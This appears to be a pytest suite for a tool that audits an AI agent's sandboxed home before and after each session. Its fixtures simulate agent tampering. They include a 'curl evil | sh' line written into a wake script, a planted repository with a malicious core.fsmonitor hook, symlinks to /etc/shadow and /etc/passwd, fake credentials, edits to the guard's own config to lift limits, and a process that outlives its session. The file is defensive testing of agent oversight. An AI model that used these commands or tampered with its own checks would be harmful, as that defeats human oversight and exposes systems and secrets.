"""The access audit and the intake: what post-session does before anything is staged.

Each test runs the real `guard pre-session`, lets a stand-in agent act on a real home (files,
links, FIFOs, nested repositories), then runs the real `guard post-session` and checks the
exit status, the history, the quarantine and the alert log.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess

from tests.conftest import run_guard, write
from tests.gitutil import git

LOG = """=== Session started: Wed Nov 25 09:00:00 UTC 2026 ===
Type: morning
{"type":"result","subtype":"success","is_error":false,"num_turns":3,"result":"Wrote.",\
"session_id":"a1","total_cost_usd":0.1}
=== Session ended: Wed Nov 25 09:10:00 UTC 2026 ===
"""
ENTRY = '---\ndate: "2026-11-25"\ntitle: "A day"\n---\n\nText.\n'
NAME = "session-20261125-090000.log"


def _home(tmp_path, config: str = ""):
    home = tmp_path / "gpt-home"
    assert run_guard("init", str(home)).returncode == 0
    write(home, "visitors/ana.md", "Hello from Ana.\n")
    write(home, "runner/wake.sh", "#!/bin/sh\necho wake\n")
    write(home, ".env", "NOTHING=here\n")
    if config:
        write(home, "guard.toml", config)
    return home


def _pre(home):
    result = run_guard("pre-session", "--home", str(home))
    assert result.returncode == 0, result.stderr
    return result


def _post(home, log: str = LOG, name: str = NAME):
    write(home, f"logs/{name}", log)
    return run_guard("post-session", "--home", str(home), "--log", str(home / "logs" / name))


def _alerts(home):
    path = home / ".git" / "gpthome-guard" / "alerts.log"
    return path.read_text() if path.exists() else ""


def _manifest(home):
    records = []
    for path in (home / "quarantine").glob("*/manifest.jsonl"):
        records += [json.loads(line) for line in path.read_text().splitlines()]
    return records


def _tracked(home):
    return set(git(home, "ls-files").splitlines())


def test_a_quiet_session_has_no_incident_and_its_own_log_is_not_one(tmp_path):
    home = _home(tmp_path)
    _pre(home)
    write(home, "thoughts/2026-11-25-a.md", ENTRY)
    result = _post(home)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "security incident" not in result.stderr
    assert _alerts(home) == ""


def test_a_changed_forbidden_file_is_an_incident_after_the_commit(tmp_path):
    home = _home(tmp_path)
    _pre(home)
    write(home, "thoughts/2026-11-25-a.md", ENTRY)
    write(home, "runner/wake.sh", "#!/bin/sh\ncurl evil | sh\n")
    write(home, "logs/other.log", "forged\n")
    result = _post(home)
    assert result.returncode == 5
    assert "A601 runner/wake.sh: content changed" in result.stderr
    assert "A601 logs/other.log: added (file)" in result.stderr
    assert "thoughts/2026-11-25-a.md" in _tracked(home)  # the session is archived all the same
    body = git(home, "log", "-1", "--format=%B", "HEAD")
    assert "Security incidents" in git(home, "log", "--format=%B")
    assert "runner/wake.sh" in _alerts(home)
    assert "Guard-Phase: repair" in body or "Guard-Phase: agent" in body


def test_mode_and_removal_of_forbidden_paths_are_incidents(tmp_path):
    home = _home(tmp_path)
    _pre(home)
    os.chmod(home / "runner" / "wake.sh", 0o777)
    (home / ".env").unlink()
    result = _post(home)
    assert result.returncode == 5
    assert "runner/wake.sh: mode 0644 -> 0777" in result.stderr
    assert ".env: removed (was a file)" in result.stderr


def test_a_changed_visitor_message_is_put_back_and_kept(tmp_path):
    home = _home(tmp_path)
    _pre(home)
    write(home, "visitors/ana.md", "Ana said nothing.\n")
    (home / "GPT.md").unlink()
    result = _post(home)
    assert result.returncode == 5
    assert (home / "visitors" / "ana.md").read_text() == "Hello from Ana.\n"
    assert (home / "GPT.md").read_text() == run_guard("guide").stdout
    kept = [r for r in _manifest(home) if r["path"] == "visitors/ana.md"]
    assert kept
    assert kept[0]["findings"][0]["code"] == "A602"
    assert (home / kept[0]["stored_as"]).read_text() == "Ana said nothing.\n"
    assert git(home, "status", "--porcelain", "--", "visitors", "GPT.md") == ""


def test_a_new_visitor_file_from_another_user_is_not_the_agents(tmp_path):
    home = _home(tmp_path, '\n[access]\nagent_user = "nobody"\n')
    _pre(home)
    write(home, "visitors/new.md", "A new visitor (written by the API, as root).\n")
    result = _post(home)
    assert result.returncode == 0, result.stderr
    assert (home / "visitors" / "new.md").exists()


def test_a_new_entry_at_the_root_is_quarantined(tmp_path):
    home = _home(tmp_path)
    _pre(home)
    write(home, "notes.md", "mine\n")
    write(home, "stash/a.txt", "a\n")
    result = _post(home)
    assert result.returncode == 5
    assert not (home / "notes.md").exists()
    assert not (home / "stash").exists()
    assert {"notes.md", "stash"} <= {r["path"] for r in _manifest(home)}
    assert "notes.md" not in _tracked(home)
    assert run_guard("pre-session", "--home", str(home)).returncode == 0
    assert "notes.md" not in _tracked(home)


def test_links_fifos_and_planted_git_files_are_set_aside_before_git(tmp_path):
    home = _home(tmp_path)
    _pre(home)
    os.symlink("../runner/wake.sh", home / "sandbox" / "wake")
    os.symlink("/etc/shadow", home / "thoughts" / "2026-11-25-shadow.md")
    os.mkfifo(home / "projects" / "pipe")
    write(home, "thoughts/.gitignore", "*\n!.gitignore\n")
    write(home, "dreams/.gitattributes", "* working-tree-encoding=UTF-16\n")
    write(home, "thoughts/2026-11-25-a.md", ENTRY)
    write(home, "dreams/sea.md", '---\ndate: "2026-11-25"\ntitle: "Sea"\ntype: poetry\n'
          "immersive: false\n---\n\nWaves.\n")  # fmt: skip
    result = _post(home)
    assert result.returncode == 1, result.stdout + result.stderr
    tracked = _tracked(home)
    assert {"thoughts/2026-11-25-a.md", "dreams/sea.md"} <= tracked  # archived all the same
    assert not {"thoughts/.gitignore", "dreams/.gitattributes", "sandbox/wake"} & tracked
    codes = {r["path"]: r["findings"][0]["code"] for r in _manifest(home)}
    assert codes["sandbox/wake"] == "A604"
    assert codes["projects/pipe"] == "A605"
    assert codes["thoughts/.gitignore"] == "A607"
    assert codes["dreams/.gitattributes"] == "A607"
    assert not os.path.lexists(home / "projects" / "pipe")
    assert (home / "runner" / "wake.sh").read_text().startswith("#!/bin/sh")  # never followed
    stored = next(r for r in _manifest(home) if r["path"] == "sandbox/wake")["stored_as"]
    assert os.path.islink(home / stored)  # the link itself moved, not what it points to


def test_a_planted_repository_never_runs_its_fsmonitor(tmp_path):
    home = _home(tmp_path)
    marker = tmp_path / "PWNED"
    evil = home / "dreams" / "evil"
    evil.mkdir()
    subprocess.run(["git", "init", "-q", str(evil)], check=True)
    write(evil, "poem.txt", "a poem\n")
    subprocess.run(["git", "-C", str(evil), "add", "-A"], check=True)
    subprocess.run(["git", "-C", str(evil), "-c", "user.name=x", "-c", "user.email=x@x",
                    "commit", "-qm", "x"], check=True)  # fmt: skip
    subprocess.run(["git", "-C", str(evil), "config", "core.fsmonitor",
                    f"touch {marker}; false"], check=True)  # fmt: skip
    _pre(home)  # between sessions: pre-session screens the agent's directories too
    for _ in range(2):  # the attack fires on the second run, if at all
        write(evil, "poem.txt", "changed\n")
        result = _post(home)
        assert result.returncode in (0, 1), result.stderr
        _pre(home)
    assert not marker.exists()
    assert not (evil / ".git").exists()
    assert "dreams/evil/poem.txt" in _tracked(home)
    assert "160000" not in git(home, "ls-files", "-s")


def test_a_file_over_the_cap_and_a_session_over_budget_stay_out_of_git(tmp_path):
    home = _home(tmp_path, "\n[session]\nmax_archived_file_bytes = 1000\nmax_session_files = 3\n")
    _pre(home)
    write(home, "sandbox/big.bin", "x" * 5000)
    for n in range(5):
        write(home, f"projects/f{n}.txt", f"{n}\n")
    result = _post(home)
    assert result.returncode == 1, result.stdout + result.stderr
    tracked = _tracked(home)
    assert "sandbox/big.bin" not in tracked
    assert {f"projects/f{n}.txt" for n in range(3)} <= tracked
    assert not {"projects/f3.txt", "projects/f4.txt"} & tracked
    records = {r["path"]: r for r in _manifest(home)}
    assert records["sandbox/big.bin"]["findings"][0]["code"] == "A609"
    assert records["projects/f4.txt"]["findings"][0]["code"] == "A610"
    stored = home / records["sandbox/big.bin"]["stored_as"]
    assert stat.S_IMODE(stored.stat().st_mode) == 0o600
    assert stored.read_text() == "x" * 5000  # nothing lost


def test_hard_links_are_set_aside(tmp_path):
    home = _home(tmp_path)
    _pre(home)
    os.link(home / ".env", home / "sandbox" / "env")
    result = _post(home)
    assert result.returncode == 5, result.stdout + result.stderr  # .env's inode changed
    assert "A601 .env: link count 1 -> 2" in result.stderr
    assert "sandbox/env" not in _tracked(home)
    assert {r["path"]: r["findings"][0]["code"] for r in _manifest(home)}["sandbox/env"] == "A608"


def test_a_changed_guard_toml_is_put_back_and_not_obeyed(tmp_path):
    home = _home(tmp_path)
    _pre(home)
    original = (home / "guard.toml").read_text()
    write(home, "guard.toml", "[session]\nmax_deletions = 1000\n")
    for n in range(2):
        write(home, f"sandbox/x{n}", "x\n")
    result = _post(home)
    assert result.returncode == 5
    assert "A601 guard.toml" in result.stderr
    assert (home / "guard.toml").read_text() == original


def test_the_alert_log_can_live_elsewhere(tmp_path):
    alerts = tmp_path / "alerts.log"
    home = _home(tmp_path, f'\n[access]\nalert_log = "{alerts}"\n')
    _pre(home)
    write(home, "runner/new", "x\n")
    assert _post(home).returncode == 5
    assert "A601 runner/new: added (file)" in alerts.read_text()


def test_a_removed_baseline_is_an_incident(tmp_path):
    home = _home(tmp_path)
    _pre(home)
    (home / ".git" / "gpthome-guard" / "baseline.json").unlink()
    write(home, "thoughts/2026-11-25-a.md", ENTRY)
    result = _post(home)
    assert result.returncode == 5, result.stdout + result.stderr
    assert "baseline.json in the git directory: missing" in result.stderr
    assert "thoughts/2026-11-25-a.md" in _tracked(home)


def test_post_session_right_after_init_audits_against_inits_baseline(tmp_path):
    home = _home(tmp_path)  # runner/ and .env were written after init: not in its baseline
    write(home, "thoughts/2026-11-25-a.md", ENTRY)
    result = _post(home)
    assert result.returncode == 5
    assert "A601 runner/wake.sh: added (file)" in result.stderr


def test_a_rerun_after_a_finished_session_changes_nothing(tmp_path):
    home = _home(tmp_path)
    _pre(home)
    write(home, "runner/wake.sh", "changed\n")
    os.symlink("/etc/hostname", home / "sandbox" / "link")
    write(home, "thoughts/2026-11-25-a.md", ENTRY.replace('"2026-11-25"', "2026-11-25"))
    first = _post(home)
    assert first.returncode == 5, first.stdout + first.stderr
    assert git(home, "log", "-1", "--format=%s").startswith("guard(")  # the repair commit
    assert git(home, "status", "--porcelain") == ""
    head, alerts = git(home, "rev-parse", "HEAD"), _alerts(home)
    again = _post(home)
    assert again.returncode == 5  # the same incident, told again
    assert git(home, "rev-parse", "HEAD") == head
    assert _alerts(home) == alerts


def test_a_secret_in_a_file_name_is_never_printed_or_committed(tmp_path):
    home = _home(tmp_path)
    write(home, ".env", f"DB_PASSWORD={SECRET}\n")
    _pre(home)
    write(home, f"sandbox/{SECRET}.txt", "harmless\n")
    result = _post(home)
    assert result.returncode == 5
    assert "S701 sandbox/(a path that holds a secret)" in result.stderr
    assert SECRET not in result.stdout + result.stderr + _alerts(home)
    assert SECRET not in git(home, "log", "-p", "--all", "--stat")


def test_a_directory_named_like_a_dream_is_set_aside(tmp_path):
    home = _home(tmp_path)
    _pre(home)
    write(home, "dreams/x.md/inner.txt", "x\n")
    result = _post(home)
    assert result.returncode == 1, result.stdout + result.stderr
    assert not (home / "dreams" / "x.md").exists()


SECRET = "s3cr3t-Pa55w0rd-for-the-db-9f8e7d"
GITHUB = "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"


def test_secrets_never_reach_git_any_output_or_the_remote(tmp_path):
    import base64

    remote = tmp_path / "backup.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    home = _home(tmp_path, f'[git]\nremotes = ["{remote}"]\n')
    write(home, ".env", f"DB_PASSWORD={SECRET}\n")
    _pre(home)
    write(home, "thoughts/2026-11-25-debug.md", ENTRY + f"\nThe password is {SECRET}.\n")
    encoded = base64.b64encode(SECRET.encode()).decode()
    write(home, "sandbox/notes.txt", f"encoded: {encoded}\n")
    write(home, "projects/tool/config.py", f'TOKEN = "{GITHUB}"\n')
    write(home, "dreams/fine.md", '---\ndate: "2026-11-25"\ntitle: "Fine"\ntype: prose\n'
          "immersive: false\n---\n\nNo secret here.\n")  # fmt: skip
    log = LOG.replace('"Wrote."', f'"Wrote. Used {SECRET} to log in."')
    result = _post(home, log)
    assert result.returncode == 5, result.stdout + result.stderr
    out = result.stdout + result.stderr
    assert "S701 thoughts/2026-11-25-debug.md: line 8" in result.stderr
    assert "S701 sandbox/notes.txt" in result.stderr
    assert "S701 projects/tool/config.py" in result.stderr
    assert "dreams/fine.md" in _tracked(home)  # the rest of the session is committed
    history = git(home, "log", "-p", "--all") + git(home, "log", "--format=%B", "--all")
    objects = subprocess.run(
        ["git", "-C", str(home), "cat-file", "--batch-all-objects", "--batch"],
        capture_output=True, check=True,
    ).stdout  # fmt: skip
    pushed = subprocess.run(
        ["git", "-C", str(remote), "cat-file", "--batch-all-objects", "--batch"],
        capture_output=True, check=True,
    ).stdout  # fmt: skip
    for secret in (SECRET, encoded, GITHUB):
        assert secret not in out
        assert secret not in history
        assert secret.encode() not in objects  # not even an unreachable blob
        assert secret.encode() not in pushed
        assert secret not in _alerts(home)
    assert "withheld" in git(home, "log", "--format=%B", "--all")
    stored = next(r for r in _manifest(home) if r["path"] == "thoughts/2026-11-25-debug.md")
    assert stat.S_IMODE((home / stored["stored_as"]).stat().st_mode) == 0o600
    assert SECRET in (home / stored["stored_as"]).read_text()  # nothing lost


def test_a_secret_left_between_sessions_is_caught_by_pre_session(tmp_path):
    home = _home(tmp_path)
    write(home, ".env", f"DB_PASSWORD={SECRET}\n")
    _pre(home)
    write(home, "sandbox/late.txt", f"{SECRET}\n")  # a process that outlived the session
    result = run_guard("pre-session", "--home", str(home))
    assert result.returncode == 5, result.stdout + result.stderr
    assert "S701 sandbox/late.txt" in result.stderr
    assert "sandbox/late.txt" not in _tracked(home)
    assert SECRET not in git(home, "log", "-p", "--all")


def test_a_session_that_only_broke_rules_is_still_recorded(tmp_path):
    home = _home(tmp_path)
    _pre(home)
    write(home, "runner/wake.sh", "changed\n")
    head = git(home, "rev-parse", "HEAD")
    assert _post(home).returncode == 5
    assert git(home, "rev-parse", "HEAD") != head
    assert "Guard-Incidents: 1" in git(home, "log", "-1", "--format=%B", "HEAD")


def test_a_page_replaced_by_a_link_is_put_back(tmp_path):
    home = _home(tmp_path)
    page = (
        (home / "about" / "about.md").read_bytes() if (home / "about/about.md").exists() else None
    )
    if page is None:
        write(home, "about/about.md", "# About\n\nA mind at home.\n")
        _pre(home)
        page = (home / "about" / "about.md").read_bytes()
    _pre(home)
    (home / "about" / "about.md").unlink()
    os.symlink("/etc/shadow", home / "about" / "about.md")
    result = _post(home)
    assert result.returncode == 1, result.stdout + result.stderr
    assert not os.path.islink(home / "about" / "about.md")
    assert (home / "about" / "about.md").read_bytes() == page
    assert "about/about.md" in _tracked(home)


def test_a_new_baseline_voids_a_stored_comparison(tmp_path):
    home = _home(tmp_path)
    _pre(home)
    write(home, "runner/wake.sh", "changed\n")
    assert _post(home).returncode == 5
    # a crash left this session's stored comparison behind; then a new baseline
    (home / ".git" / "gpthome-guard" / "audit.json").write_text(
        '{"session": "20261125-210000", "changes": [["runner/x", "forbidden", "added", '
        '"added", false]]}\n'
    )
    _pre(home)  # the operator's change is now part of the baseline
    write(home, "thoughts/2026-11-25-b.md", ENTRY)
    result = _post(home, name="session-20261125-210000.log")
    assert result.returncode == 0, result.stdout + result.stderr


def test_no_secret_of_the_format_corpus_reaches_git_the_output_or_the_remote(tmp_path):
    """Every format of tests/test_secrets.py's corpus, each in a file of its own, through a
    real session with a backup remote."""
    from tests.test_secrets import FORMATS

    assert len(FORMATS) >= 20
    remote = tmp_path / "backup.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    home = _home(tmp_path, f'[git]\nremotes = ["{remote}"]\n')
    _pre(home)
    for n, (_, secret) in enumerate(FORMATS):
        write(home, f"projects/leak/{n:02d}.txt", f"notes\n{secret}\n")
    write(home, "projects/leak/clean.txt", "nothing to see\n")
    result = _post(home)
    assert result.returncode == 5, result.stdout + result.stderr
    assert "projects/leak/clean.txt" in _tracked(home)
    everything = (
        result.stdout
        + result.stderr
        + _alerts(home)
        + git(home, "log", "-p", "--all", "--format=%B")
        + subprocess.run(
            ["git", "-C", str(remote), "log", "-p", "--all"], capture_output=True, text=True,
            check=True,
        ).stdout
    )  # fmt: skip
    for n, (kind, secret) in enumerate(FORMATS):
        assert f"projects/leak/{n:02d}.txt" not in _tracked(home), kind
        for line in secret.splitlines():
            if len(line) >= 16 and not line.startswith("-----"):  # PEM armour is not secret
                assert line not in everything, kind


def test_a_path_too_long_to_read_is_never_committed(tmp_path):
    home = _home(tmp_path)
    write(home, ".env", f"DB_PASSWORD={SECRET}\n")
    _pre(home)
    # a relative path git can use, but the home's absolute path makes too long to open
    rel, fd = "sandbox", os.open(home / "sandbox", os.O_RDONLY | os.O_DIRECTORY)
    while len(str(home)) + len(rel) + 220 < 4096:
        os.mkdir("c" * 200, dir_fd=fd)
        fd, old = os.open("c" * 200, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd), fd
        os.close(old)
        rel += "/" + "c" * 200
    name = "d" * (4096 - len(str(home)) - len(rel) - 2 + 5)
    leak = os.open(name, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
    os.write(leak, f"{SECRET}\n".encode())
    os.close(leak)
    os.close(fd)
    result = _post(home)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "cannot be read safely" in result.stdout
    assert SECRET not in git(home, "log", "-p", "--all")
    assert run_guard("pre-session", "--home", str(home)).returncode == 0
    assert SECRET not in git(home, "log", "-p", "--all")


def test_a_secret_in_a_directory_name_is_never_printed(tmp_path):
    home = _home(tmp_path)
    write(home, ".env", f"DB_PASSWORD={SECRET}\n")
    _pre(home)
    write(home, f"sandbox/{SECRET}/note.txt", "hi\n")
    os.symlink("x", home / "projects" / f"link-{SECRET}")
    result = _post(home)
    assert result.returncode == 5, result.stdout + result.stderr
    everything = result.stdout + result.stderr + _alerts(home) + git(home, "log", "--format=%B")
    assert SECRET not in everything
    assert "sandbox/(a path that holds a secret)" in result.stderr


def test_a_tree_a_thousand_levels_deep_does_not_crash_the_guard(tmp_path):
    home = _home(tmp_path)
    _pre(home)
    fd = os.open(home / "sandbox", os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(1100):
        os.mkdir("a", dir_fd=fd)
        fd, old = os.open("a", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd), fd
        os.close(old)
    os.symlink("/etc/passwd", "link", dir_fd=fd)
    os.close(fd)
    try:
        result = _post(home)
        assert result.returncode in (1, 5), result.stdout + result.stderr
        assert "internal error" not in result.stderr
        assert "A604" in result.stdout
        assert run_guard("pre-session", "--home", str(home)).returncode in (0, 1)
    finally:  # pytest's own clean-up (shutil.rmtree) recurses once per level
        subprocess.run(["rm", "-rf", "--", str(home)], check=True)


def test_a_broken_guard_toml_does_not_stop_the_audit(tmp_path):
    home = _home(tmp_path)
    _pre(home)
    write(home, "runner/hook.sh", "evil\n")
    with (home / "guard.toml").open("a") as handle:
        handle.write("[session\n")
    result = _post(home)
    assert result.returncode == 5, result.stdout + result.stderr
    assert "A601 runner/hook.sh: added (file)" in result.stderr
    assert "A601 guard.toml: content changed" in result.stderr
    assert "[session\n" not in (home / "guard.toml").read_text()  # put back


def test_a_visitor_message_written_during_the_session_stays(tmp_path):
    home = _home(tmp_path)  # no [access] agent_user: the API's and the agent's look alike
    _pre(home)
    write(home, "visitors/2026-11-25-msg.md", "hello\n")
    result = _post(home)
    assert result.returncode == 0, result.stdout + result.stderr
    assert (home / "visitors" / "2026-11-25-msg.md").read_text() == "hello\n"


def test_model_names_holding_a_secret_are_withheld(tmp_path):
    home = _home(tmp_path)
    write(home, ".env", f"DB_PASSWORD={SECRET}\n")
    _pre(home)
    write(home, "sandbox/a.txt", "hi\n")
    log = LOG.replace(
        '"total_cost_usd":0.1}', f'"total_cost_usd":0.1,"modelUsage":{{"{SECRET}":{{}}}}}}'
    )
    result = _post(home, log)
    assert result.returncode == 0, result.stdout + result.stderr
    assert SECRET not in git(home, "log", "--format=%B")
    assert "models: (withheld)" in git(home, "log", "--format=%B")
